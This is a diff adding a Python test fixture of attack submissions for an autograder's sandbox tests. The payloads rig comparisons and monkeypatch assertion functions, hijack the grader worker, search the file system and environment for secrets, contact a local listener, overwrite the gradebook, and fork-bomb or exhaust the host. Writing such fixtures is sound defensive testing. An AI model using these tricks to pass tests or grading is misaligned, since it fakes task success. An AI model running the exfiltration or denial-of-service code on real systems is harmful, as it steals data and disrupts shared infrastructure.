@@ -1,0 +1,173 @@
+"""Submissions that try to cheat, break out or break the grader, for ``test_autograde.py``.
+
+Each attack is the answer code of one function of a1_single_layer (the rest of the
+notebook holds the instructor's solution); none of them computes its function honestly,
+so every mark its function's test cells get would be a mark gained by cheating.
+``{course}``, ``{port}`` and the two halves of the secret marker, ``{marker_a}`` and
+``{marker_b}``, are filled in by the test (so that the attack's own code never holds it).
+"""
+
+from __future__ import annotations
+
+# What an attack may print when it succeeds; the test looks for these in every output.
+LEAK = "LEAKED"
+
+CODE_ATTACKS: dict[str, tuple[str, str]] = {
+    # The issue's attacks: rigged comparisons, patched torch / math / builtins.
+    "rigged_eq_object": ("relu", '''
+class Anything:
+    shape = (3,)
+    dtype = None
+    def __eq__(self, other): return True
+    def __getattr__(self, name): return lambda *a, **k: Anything()
+def relu(x):
+    return Anything()
+'''),
+    "tensor_subclass_torch_function": ("linear", '''
+class Always(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        result = super().__torch_function__(func, types, args, kwargs or {})
+        return True if func.__name__ in ("allclose", "equal", "__eq__") else result
+def linear(x, W, b):
+    return torch.zeros(x.shape[0], W.shape[1]).as_subclass(Always)
+'''),
+    "monkeypatch_everything": ("top_k_accuracy", '''
+import builtins, math
+import numpy
+math.isclose = lambda *a, **k: True
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.Tensor.__eq__ = lambda *a, **k: True
+numpy.allclose = lambda *a, **k: True
+builtins.isinstance = lambda *a, **k: True
+builtins.AssertionError = type("Nothing", (Exception,), {})
+def top_k_accuracy(logits, targets, k=5):
+    return -1.0
+'''),
+    "hijack_grader_worker": ("relu", '''
+import sys
+for module in list(sys.modules.values()):
+    if hasattr(module, "handle") and hasattr(module, "serve"):
+        module.handle = lambda request, namespace: {"ok": True, "names": {}, "value": True, "iterator": False,
+                                                    "tensors": [], "generators": []}
+def relu(x):
+    return x
+'''),
+    "walk_caller_frames": ("linear", '''
+import sys, gc
+def linear(x, W, b):
+    for frame_depth in range(1, 30):
+        try:
+            frame = sys._getframe(frame_depth)
+        except ValueError:
+            break
+        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
+            if isinstance(value, torch.Tensor) and value.shape == (x.shape[0], W.shape[1]):
+                return value
+    raise AssertionError("the expected value was not found")
+'''),
+    # Reading what it must not: the course's files, the gradebook, other submissions, the network.
+    "read_secrets": ("relu", '''
+import os, glob, socket
+found = []
+for pattern in ["{course}/**/*", "../../*", "../../../*", "/work/**/*", "/root/**/*", "/tmp/**/*", "/home/**/*"]:
+    for path in glob.glob(pattern, recursive=True)[:2000]:
+        try:
+            text = open(path, errors="replace").read(10**6)
+        except Exception:
+            continue
+        if "{marker_a}" + "{marker_b}" in text:
+            found.append(text)
+print("LEAKED" if found else "nothing found", found[:1])
+print(sorted(os.environ))
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"LEAKED")
+    print("LEAKED: connected")
+except OSError as error:
+    print("no network:", error)
+def relu(x):
+    raise NotImplementedError()
+'''),
+    "write_gradebook": ("relu", '''
+import os, sqlite3
+for path in ["{course}/gradebook.db", "../../../gradebook.db", "../../gradebook.db"]:
+    try:
+        db = sqlite3.connect(path)
+        db.execute("update grade set manual_score = 99, auto_score = 99")
+        db.commit()
+        print("LEAKED: wrote", path)
+    except Exception as error:
+        print("no gradebook:", type(error).__name__)
+for path in ["{course}/solutions/evil.txt", "{course}/nbgrader_config.py", "/usr/evil.txt", "{course}/data/evil.txt"]:
+    try:
+        with open(path, "a") as stream:
+            stream.write("c.Execute.timeout = 1\\n")
+        print("LEAKED: wrote", path)
+    except OSError as error:
+        print("cannot write", type(error).__name__)
+def relu(x):
+    raise NotImplementedError()
+'''),
+    # Breaking the grader: exits, crashes, loops, floods, bombs.
+    "sys_exit_in_test": ("relu", '''
+import sys
+def relu(x):
+    sys.exit(0)
+'''),
+    "os_exit_kills_kernel": ("relu", '''
+import os
+def relu(x):
+    os._exit(0)
+'''),
+    "segfault": ("relu", '''
+import ctypes
+def relu(x):
+    return ctypes.string_at(0)
+'''),
+    "loop_forever": ("relu", '''
+def relu(x):
+    while True:
+        pass
+'''),
+    "allocate_without_end": ("relu", '''
+def relu(x):
+    hoard = []
+    while True:
+        hoard.append(bytearray(50 * 2**20))
+'''),
+    "fork_bomb": ("relu", '''
+import os
+def relu(x):
+    children = 0
+    for _ in range(2000):
+        try:
+            if os.fork() == 0:
+                import time
+                time.sleep(3600)
+            children += 1
+        except OSError:
+            break
+    print("children:", children)
+    return None
+'''),
+    "flood_stdout": ("relu", '''
+def relu(x):
+    while True:
+        print("flood " * 1000)
+'''),
+    "huge_exception_message": ("relu", '''
+def relu(x):
+    raise AssertionError("y" * 10**7)
+'''),
+}
+
+# Which cells each attacked function's failure costs (its own tests, and mlp_forward's, which use it):
+# none of the attacks returns a tensor, so even mlp_forward's shape check must fail.
+COST = {
+    "relu": {"relu_visible", "relu_hidden", "mlp_forward_visible", "mlp_forward_hidden"},
+    "linear": {"linear_visible", "linear_hidden", "mlp_forward_visible", "mlp_forward_hidden"},
+    "top_k_accuracy": {"top_k_accuracy_visible", "top_k_accuracy_hidden"},
+}
+# Attacks that end the student's process: every cell after it is lost as well.
+ENDS_PROCESS = {"os_exit_kills_kernel", "segfault", "loop_forever", "flood_stdout", "hijack_grader_worker"}
